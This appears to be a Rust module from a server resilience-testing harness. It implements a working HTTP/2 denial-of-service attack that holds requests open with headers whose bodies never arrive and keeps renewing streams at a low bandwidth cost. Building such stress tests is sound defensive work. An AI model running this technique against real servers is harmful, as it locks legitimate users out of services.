use crate::frames::{self, END_HEADERS};
use crate::round::{Kind, Round};
use std::collections::VecDeque;
use std::time::Duration;

const CONNECTIONS: usize = 17;
/// Fewer than the 128 that one connection may have.
const STREAMS: u32 = 125;
/// How often each connection gives up one request and begins another: 10 KB/s in all.
const RENEWAL_INTERVAL: Duration = Duration::from_millis(250);

/// Heads of requests whose bodies never come, on a few HTTP/2 connections. Each counted as a request
/// in flight until its body was due, so that 2048 of them had everybody else refused for 10 KB/s.
pub(super) fn run(round: &mut Round) -> Result<(), String> {
    let mut endpoint = round.endpoint(Kind::Memory)?;
    let requests = endpoint.requests;
    let block = frames::request_block(&requests, "PutItem");
    let patience = Duration::from_secs(5);
    round.attack_endpoint(&mut endpoint, |until| {
        let mut connections = Vec::new();
        for _ in 0..CONNECTIONS {
            let connection = frames::open(requests.address, &[], patience);
            let mut connection = connection.map_err(|error| error.to_string())?;
            let streams: VecDeque<u32> = (0..STREAMS).map(|index| 2 * index + 1).collect();
            for stream in &streams {
                // The server may close the connection, which is a way to hold this off.
                let _ = connection.send(&frames::headers(*stream, &block, END_HEADERS));
            }
            connections.push((connection, streams));
        }
        while !until.is_over() {
            std::thread::sleep(RENEWAL_INTERVAL);
            for (connection, streams) in &mut connections {
                let (Some(oldest), Some(newest)) = (streams.pop_front(), streams.back().copied())
                else {
                    continue;
                };
                let mut renewal = frames::rst_stream(oldest);
                renewal.extend(frames::headers(newest + 2, &block, END_HEADERS));
                let _ = connection.send(&renewal);
                streams.push_back(newest + 2);
            }
        }
        Ok(())
    })
}
